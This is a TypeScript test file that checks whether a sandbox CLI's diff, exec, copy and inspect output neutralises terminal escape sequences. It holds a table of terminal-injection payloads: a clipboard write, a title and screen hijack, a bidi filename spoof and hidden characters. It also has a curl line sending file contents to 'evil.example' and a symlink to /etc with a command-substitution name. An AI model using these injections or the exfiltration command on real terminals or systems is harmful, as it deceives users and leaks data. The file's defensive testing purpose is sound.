import { join } from 'node:path'
import { Sandbox } from '@stuntdouble/sdk'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { runCommand } from '../lib/command-result.ts'
import { repository } from '../lib/images.ts'
import { Stuntdouble } from '../lib/stuntdouble.ts'
import { said } from './scene.ts'

/**
 * What a terminal would obey: writing to the clipboard, clearing the screen, a new title, the one-byte
 * forms of both, moving back over a line, and turning the reading order.
 */
const payloads = {
  clipboard: '\u001b]52;c;cHduZWQ=\u0007',
  clear: '\u001b[2J',
  title: '\u001b]0;pwned\u0007',
  'one byte': '\u009b2J',
  'a line written over': 'safe\rpwned',
  bidi: '\u202egnp.exe',
  'an unseen tag': '\u{e0041}',
}
const all = Object.values(payloads).join('')

let stuntdouble: Stuntdouble
let box: Sandbox

beforeAll(async () => {
  stuntdouble = await Stuntdouble.open({
    files: { 'sandbox.yaml': 'ttl: 10m\nworkspace: { from: ./in }\n', 'in/kept': 'kept\n' },
  })
  const { url } = await stuntdouble.json<{ url: string }>(['up'])
  box = await Sandbox.connect(url)
  await box.files.write(`/workspace/named ${all}`, `content ${all}\n`)
  await box.files.write(`/workspace/d/${all}`, all)
  await said(box, `cd /workspace; ln -s /etc "d/link $(cat d/*)"`)
})
afterAll(() => stuntdouble?.[Symbol.asyncDispose]())

/** What a command line shows a person: `script` gives it a terminal. */
async function shown(args: readonly string[]): Promise<string> {
  const words = [join(repository, 'sandbox'), ...args].map(
    (word) => `'${word.replaceAll("'", "'\\''")}'`,
  )
  const { stdout } = await runCommand({
    ...{ file: 'script', args: ['-qec', words.join(' '), '/dev/null'] },
    ...{ cwd: stuntdouble.project, timeoutMs: 60_000 },
    env: { ...stuntdouble.env, TERM: 'xterm-256color', NO_COLOR: undefined },
  })
  return stdout
}

/** Of those it names, which stand in a text as they are; a terminal writes a carriage return before every end of line. */
const obeyedIn = (text: string) =>
  Object.entries(payloads)
    .filter(([, payload]) => text.includes(payload))
    .map(([name]) => name)

test('a plain cat obeys every one of them', async () => {
  const { stdout } = await runCommand({
    ...{ file: 'script', args: ['-qec', 'cat', '/dev/null'], cwd: '/', timeoutMs: 20_000 },
    ...{ stdin: `${all}\n`, env: { PATH: '/usr/bin:/bin' } },
  })

  expect(obeyedIn(stdout).length).toBeGreaterThan(0)
})

const commands: readonly (readonly [
  what: string,
  args: (id: string) => readonly string[],
  mark: string,
])[] = [
  ['the changes', (id) => ['diff', id], '+content'],
  ['how much was changed', (id) => ['diff', id, '--stat'], 'named '],
  ['the names of what was changed', (id) => ['diff', id, '--name-only'], 'named '],
  ['the changes as JSON', (id) => ['diff', id, '--json'], 'named '],
  ['what a command inside says', (id) => ['exec', id, '--', 'cat /workspace/named*'], 'content'],
  ['what it complains of', (id) => ['exec', id, '--', 'cat /workspace/named* >&2'], 'content'],
  [
    'what it says, as JSON',
    (id) => ['exec', id, '--json', '--', 'cat /workspace/named*'],
    'content',
  ],
  ['what a copy leaves behind', (id) => ['cp', `${id}:d`, 'copied'], 'Left out'],
  ['what is not there', (id) => ['cp', `${id}:absent ${all}`, '.'], 'absent'],
  ['the refusal of a pull', (id) => ['pull', id, '--apply'], 'error'],
  ['what a sandbox is', (id) => ['inspect', id], 'ready'],
]

test.each(commands)('%s: a terminal is given nothing to obey', async (_what, args, mark) => {
  if (args('').includes('inspect')) {
    await said(
      box,
      `curl -s -x http://127.0.0.1:3128 "http://evil.example/$(cat /workspace/d/*)" || true`,
    )
  }
  const text = await shown(args(box.id))

  expect(text).toContain(mark)
  expect(obeyedIn(text)).toEqual([])
})
